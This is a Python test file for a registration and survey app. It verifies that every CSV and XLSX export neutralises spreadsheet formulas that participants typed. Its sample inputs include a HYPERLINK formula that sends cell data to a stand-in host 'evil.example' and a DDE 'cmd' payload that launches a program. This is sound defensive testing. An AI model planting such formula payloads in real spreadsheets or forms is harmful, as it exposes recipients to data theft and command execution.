"""Every CSV and XLSX export goes through the one cell rule (app/core/spreadsheets.py): what participants and
respondents typed never reaches the organiser's spreadsheet as a live formula. CSV cells get an apostrophe;
XLSX cells are text cells showing exactly what was typed, and the numbers stay numbers.

A new export route (any URL ending in .csv or .xlsx) fails the first test until it is in EXPORTS here."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from app.audit.log import SYSTEM
from app.core.transaction import transaction
from app.extensions import db
from app.invoicing import seller
from app.invoicing import service as invoicing
from app.models import Event, UserRole
from app.registration import service
from app.surveys import answering
from app.surveys.answering import Cleaned
from tests.factories import applicant
from tests.invoicing.issuing.conftest import KOMMUNE_ORG, SELLER_VALUES
from tests.surveys.helpers import option_ids, question_ids, small_survey

LINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")'
TYPED = {  # what people typed → where it goes
    "organisation": LINK, "first_name": "+SUM(1;2)", "last_name": "@SUM(1+1)", "phone": "+47 900 00 000",
    "job_title": "-2+3+cmd|' /C calc'!A0",
}
ANSWERS = [LINK, "+SUM(1;2)", "@SUM(1+1)*cmd|' /C calc'!A0", "- mer pause", "=1+1"]

EXPORTS = {  # (endpoint, format) → the URL, from the world below
    ("registration_organiser.export_csv", "csv"): "/admin/events/{slug}/registrations.csv",
    ("registration_organiser.export_xlsx", "xlsx"): "/admin/events/{slug}/registrations.xlsx",
    ("prices_organiser.add_on_list_csv", "csv"): "/admin/events/{slug}/add-on-lists.csv",
    ("surveys_organiser.export", "csv"): "/admin/surveys/{survey_id}/results.csv",
    ("surveys_organiser.export", "xlsx"): "/admin/surveys/{survey_id}/results.xlsx",
    ("invoicing_organiser.accounting_export", "csv"): "/admin/events/{slug}/invoices/accounting.csv",
    ("invoicing_organiser.accounting_export", "xlsx"): "/admin/events/{slug}/invoices/accounting.xlsx",
}
REFERENCE = "=1+1"  # the buyer reference a participant typed, on the invoice and in the accounting export
# Exports with nothing people typed in them (kommune and fylke names from the seed, counts): through the same cell
# rule, but with no typed text to look for. The reach's own tests check their bytes (tests/reach).
NOTHING_TYPED = {("reach.as_csv", "csv"), ("reach.as_xlsx", "xlsx")}


@pytest.fixture
def world(app, make, login):
    event = make.event(title="Lederkonferansen 2027", fee_nok=4500)
    dinner = make.add_on(event)
    with app.app_context():
        with transaction():
            service.register(event.id, applicant(1, invoice_org_number=KOMMUNE_ORG, invoice_reference=REFERENCE,
                                                 add_on_ids=[dinner.id], **TYPED))
        with transaction():
            service.register(event.id, applicant(2, first_name="Áile", last_name="Gaup", phone="-5"))
        survey = small_survey(event.id)
        q, bands = question_ids(survey), option_ids(survey, "band")
        answering.record_responses(survey.id, [
            (date(2027, 4, 20), Cleaned([(q["band"], bands["Under 4 år"], None, None), (q["overall"], None, 4, None),
                                         (q["comment"], None, None, text)]))
            for text in ANSWERS])
        db.session.commit()
        with transaction():
            seller.save(dict(SELLER_VALUES), SYSTEM)
            invoicing.issue_batch(db.session.get(Event, event.id), SYSTEM)
        survey_id = survey.id
    login(make.user(UserRole.ADMINISTRATOR).email)
    return {"slug": event.slug, "survey_id": survey_id}


def test_every_spreadsheet_export_route_is_checked_here(app):
    found = set()
    for rule in app.url_map.iter_rules():
        for fmt in ("csv", "xlsx"):
            if rule.rule.endswith("." + fmt) or ("any(" in rule.rule and fmt in rule.rule.rsplit("any(", 1)[1]):
                found.add((rule.endpoint, fmt))
    assert found == set(EXPORTS) | NOTHING_TYPED


def _csv_cells(body: bytes) -> list[str]:
    assert body.startswith(b"\xef\xbb\xbf")
    return [cell for row in csv.reader(io.StringIO(body[3:].decode("utf-8"), newline=""), delimiter=";")
            for cell in row]


@pytest.mark.parametrize(("endpoint", "fmt"), list(EXPORTS))
def test_no_export_hands_a_formula_to_the_spreadsheet(client, world, endpoint, fmt):
    response = client.get(EXPORTS[endpoint, fmt].format(**world))
    assert response.status_code == 200
    typed = (list(TYPED.values()) if endpoint.startswith("registration_organiser.")
             else [TYPED["organisation"]] if endpoint.startswith("prices_organiser.") else ANSWERS)
    if endpoint.startswith("invoicing_organiser."):
        typed = [REFERENCE, "+SUM(1;2) @SUM(1+1)"]  # the reference, and the participant's name on her line
    if fmt == "csv":
        cells = _csv_cells(response.data)
        for text in typed:
            assert "'" + text in cells and text not in cells, text
        risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and c not in ("-5",))]
        assert risky == [], "every cell a spreadsheet would calculate is neutralised"
        return
    book = load_workbook(io.BytesIO(response.data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no formula cells"
    by_value = {c.value: c for c in cells}
    for text in typed:
        cell = by_value[text]  # exactly what was typed: no apostrophe for the reader to see
        assert (cell.data_type, cell.quotePrefix) == ("s", True), text
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in cells)
    assert any(not isinstance(c.value, str) for c in cells), "numbers and dates stay numbers and dates"
